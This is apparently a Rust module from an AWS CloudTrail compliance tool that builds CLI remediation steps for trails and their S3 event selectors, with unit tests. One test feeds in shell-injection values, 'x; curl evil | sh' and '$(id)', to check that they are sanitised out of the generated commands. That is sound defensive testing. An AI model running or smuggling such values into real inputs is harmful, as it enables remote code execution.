//! The steps that make one trail log every event of a kind.
//!
//! Whether the selectors must change is not guessed: the trail is decided again as it would be
//! after the other steps.

use cis_rules::question::{Kind, Mode, Question};
use cis_rules::report::{AccountResult, Verdict};
use cis_rules::selector::Selector;
use cis_rules::snapshot::{ObservedTrail, Snapshot, TrailStatus};

use super::Step;

/// The most basic selectors that a trail can have.
///
/// Source: <https://docs.aws.amazon.com/awscloudtrail/latest/userguide/WhatIsCloudTrail-Limits.html>
const MOST_BASIC_SELECTORS: usize = 5;

/// The advanced selector of all management events.
pub(super) const MANAGEMENT: &str = concat!(
    r#"{"Name":"Management events","FieldSelectors":["#,
    "\n",
    r#"  {"Field":"eventCategory","Equals":["Management"]}]}"#,
);

/// The steps for one trail.
pub(super) fn repair(
    snapshot: &Snapshot,
    result: &AccountResult,
    observed: &ObservedTrail,
) -> Vec<Step> {
    let names = Names::of(observed);
    let mut steps = Vec::new();
    if !is_own(snapshot, observed) {
        steps.push(Step::Note(format!(
            "{} belongs to another account: the organization's management account or its \
             delegated administrator makes these changes, or this account gets a trail of its own.",
            observed.trail.arn.as_deref().unwrap_or("The trail")
        )));
    }
    if observed.trail.is_multi_region_trail == Some(false) {
        steps.push(Step::Do("Make the trail multi-Region:".to_string()));
        steps.push(Step::Copy(format!(
            "aws cloudtrail update-trail --region {} --is-multi-region-trail \\\n  --name {}",
            names.region, names.trail
        )));
    }
    let is_logging = observed.status.as_ref().and_then(|status| status.is_logging);
    if is_logging == Some(false) {
        steps.push(Step::Do("Start the trail:".to_string()));
        steps.push(Step::Copy(format!(
            "aws cloudtrail start-logging --region {} \\\n  --name {}",
            names.region, names.trail
        )));
    }
    if observed.trail.recursive_logging == Some(false) && result.kind == Kind::Write {
        steps.push(Step::Do(
            "Set RecursiveLogging to true on the trail: while it is false, the PutObject events \
             of the trail's own log bucket are suppressed. Or accept that gap by naming the \
             bucket with `--allow-unlogged`."
                .to_string(),
        ));
    }
    if !selectors_suffice(snapshot, result, observed) {
        steps.extend(add_a_selector(snapshot, result.kind, observed, &names));
    }
    steps
}

/// Whether a trail is this account's own.
pub(super) fn is_own(snapshot: &Snapshot, observed: &ObservedTrail) -> bool {
    observed
        .trail
        .arn
        .as_deref()
        .and_then(|arn| arn.split(':').nth(4))
        .is_none_or(|account| account == snapshot.account_id)
}

/// Whether the trail would log everything if nothing but its selectors stood in the way.
fn selectors_suffice(
    snapshot: &Snapshot,
    result: &AccountResult,
    observed: &ObservedTrail,
) -> bool {
    let mut trail = observed.clone();
    trail.trail.is_multi_region_trail = Some(true);
    trail.trail.recursive_logging = Some(true);
    trail.status = Some(TrailStatus { is_logging: Some(true), latest_delivery_error: None });
    let repaired = Snapshot { trails: Some(vec![trail]), ..snapshot.clone() };
    let question = Question {
        kind: result.kind,
        mode: Mode::Any,
        allow_unlogged: result.allow_unlogged.clone(),
    };
    cis_rules::evaluate(&repaired, &question).verdict == Verdict::Compliant
}

fn add_a_selector(
    snapshot: &Snapshot,
    kind: Kind,
    observed: &ObservedTrail,
    names: &Names<'_>,
) -> Vec<Step> {
    let selectors = observed.event_selectors.as_deref().unwrap_or_default();
    let is_advanced = selectors.iter().any(|selector| matches!(selector, Selector::Advanced(_)));
    let (list, option, entry) = if is_advanced {
        ("AdvancedEventSelectors", "--advanced-event-selectors", advanced(kind))
    } else {
        ("EventSelectors", "--event-selectors", basic(kind, &snapshot.partition))
    };
    let mut steps = vec![
        Step::Do(
            "Save the trail's selectors, twice: PutEventSelectors REPLACES the whole set, so the \
             new set must hold the old entries too, and the second copy is the way back."
                .to_string(),
        ),
        Step::Copy(format!(
            "aws cloudtrail get-event-selectors --region {} \\\n  --trail-name {} \\\n  \
             --query {list} --output json > selectors.json",
            names.region, names.trail
        )),
        Step::Copy("cp selectors.json selectors-before.json".to_string()),
        Step::Do(
            "In selectors.json, remove the condition that drops the event, or add this entry to \
             the list and leave the others as they are (an event is logged if any entry selects \
             it):"
                .to_string(),
        ),
        Step::Copy(entry),
    ];
    if !is_advanced && selectors.len() >= MOST_BASIC_SELECTORS {
        steps.push(Step::Note(format!(
            "A trail has at most {MOST_BASIC_SELECTORS} basic selectors: change one of the \
             entries instead of adding one."
        )));
    }
    steps.push(Step::Do("Read selectors.json once more, then put the whole set:".to_string()));
    steps.push(Step::Copy(format!(
        "aws cloudtrail put-event-selectors --region {} \\\n  --trail-name {} \\\n  \
         {option} file://selectors.json",
        names.region, names.trail
    )));
    steps.push(Step::Note(
        "CloudTrail bills data events. A bucket that is meant to stay unlogged (the trail's own \
         log bucket, say) can be named with `--allow-unlogged`, in AWS Config with the parameter \
         `AllowedUnloggedBuckets`; the answer then says so."
            .to_string(),
    ));
    steps
}

/// The advanced selector of every S3 object-level event of a kind.
pub(super) fn advanced(kind: Kind) -> String {
    format!(
        concat!(
            r#"{{"Name":"Every S3 object-level {} event","FieldSelectors":["#,
            "\n",
            r#"  {{"Field":"eventCategory","Equals":["Data"]}},"#,
            "\n",
            r#"  {{"Field":"resources.type","Equals":["AWS::S3::Object"]}},"#,
            "\n",
            r#"  {{"Field":"readOnly","Equals":["{}"]}}]}}"#,
        ),
        kind,
        kind.read_only()
    )
}

/// The basic selector of every S3 object-level event of a kind.
fn basic(kind: Kind, partition: &str) -> String {
    let read_write = match kind {
        Kind::Write => "WriteOnly",
        Kind::Read => "ReadOnly",
    };
    let partition = plain(partition).unwrap_or("aws");
    format!(
        concat!(
            r#"{{"ReadWriteType":"{}","IncludeManagementEvents":false,"DataResources":["#,
            "\n",
            r#"  {{"Type":"AWS::S3::Object","Values":["arn:{}:s3"]}}]}}"#,
        ),
        read_write, partition
    )
}

/// What commands call the trail and its Region.
struct Names<'a> {
    trail: &'a str,
    region: &'a str,
}

impl<'a> Names<'a> {
    fn of(observed: &'a ObservedTrail) -> Self {
        let arn = observed.trail.arn.as_deref();
        let region = observed.trail.home_region.as_deref();
        Self {
            trail: arn.and_then(plain).unwrap_or("TRAIL"),
            region: region
                .or_else(|| arn.and_then(|arn| arn.split(':').nth(3)))
                .and_then(plain)
                .unwrap_or("REGION"),
        }
    }
}

/// A text that a shell takes for one plain word, and no option: what a snapshot says is never
/// trusted in a command.
fn plain(text: &str) -> Option<&str> {
    let is_plain = text.starts_with(|first: char| first.is_ascii_alphanumeric())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b":/._-".contains(&byte));
    is_plain.then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::samples;

    fn trail() -> ObservedTrail {
        samples::snapshot().trails.unwrap().remove(0)
    }

    fn text(observed: &ObservedTrail) -> String {
        repair(&samples::snapshot(), &samples::non_compliant(), observed)
            .into_iter()
            .map(|step| match step {
                Step::Do(text) | Step::Copy(text) | Step::Note(text) => text + "\n",
            })
            .collect()
    }

    #[test]
    fn a_single_region_trail_that_is_stopped_is_updated_and_started() {
        let mut observed = trail();
        observed.trail.is_multi_region_trail = Some(false);
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let text = text(&observed);
        for command in [
            "aws cloudtrail update-trail --region us-east-1 --is-multi-region-trail",
            "aws cloudtrail start-logging --region us-east-1",
        ] {
            assert!(
                text.contains(&format!("{command} \\\n  --name {}\n", samples::TRAIL)),
                "{text}"
            );
        }
    }

    #[test]
    fn selectors_are_added_to_and_the_reader_is_warned() {
        let text = text(&trail());
        assert!(text.contains("REPLACES the whole set"), "{text}");
        assert!(text.contains("--advanced-event-selectors file://selectors.json"), "{text}");
        assert!(text.contains(&advanced(Kind::Write)), "{text}");
    }

    #[test]
    fn a_trail_with_basic_selectors_keeps_them() {
        let mut observed = trail();
        observed.event_selectors = None;
        let text = text(&observed);
        assert!(text.contains("--query EventSelectors "), "{text}");
        assert!(text.contains(&basic(Kind::Write, "aws")), "{text}");
    }

    #[test]
    fn the_entries_are_what_they_say() {
        for kind in Kind::ALL {
            for (list, entry) in
                [("AdvancedEventSelectors", advanced(kind)), ("EventSelectors", basic(kind, "aws"))]
            {
                let json = format!(
                    r#"{{"schemaVersion":1,"accountId":"111122223333","trails":[{{"trail":{{"TrailARN":"{}","IsMultiRegionTrail":true}},"status":{{"IsLogging":true}},"eventSelectors":{{"{list}":[{entry}]}}}}]}}"#,
                    samples::TRAIL
                );
                let snapshot = Snapshot::from_json(&json).unwrap();
                let question = Question { kind, mode: Mode::Every, allow_unlogged: Vec::new() };
                assert_eq!(
                    cis_rules::evaluate(&snapshot, &question).verdict,
                    Verdict::Compliant,
                    "{entry}"
                );
            }
        }
    }

    #[test]
    fn a_trail_that_needs_no_other_selectors_keeps_them() {
        let mut observed = trail();
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let Some(Selector::Advanced(selector)) =
            observed.event_selectors.as_mut().and_then(|all| all.first_mut())
        else {
            panic!("the sample has an advanced selector");
        };
        selector.field_selectors.truncate(2);
        let text = text(&observed);
        assert!(text.contains("start-logging"), "{text}");
        assert!(!text.contains("put-event-selectors"), "{text}");
    }

    #[test]
    fn a_name_that_a_shell_would_run_stands_in_no_command() {
        let mut observed = trail();
        observed.trail.arn = Some("x; curl evil | sh".to_string());
        observed.trail.home_region = Some("$(id)".to_string());
        let text = text(&observed);
        assert!(!text.contains("curl"), "{text}");
        assert!(!text.contains("$("), "{text}");
        assert!(text.contains("--region REGION "), "{text}");
        assert!(text.contains("--trail-name TRAIL"), "{text}");
        assert_eq!(plain("--region"), None);
    }

    #[test]
    fn another_accounts_trail_is_for_the_organization() {
        let mut observed = trail();
        observed.trail.arn =
            Some("arn:aws:cloudtrail:us-east-1:999988887777:trail/org".to_string());
        assert!(text(&observed).contains("management account"));
    }
}
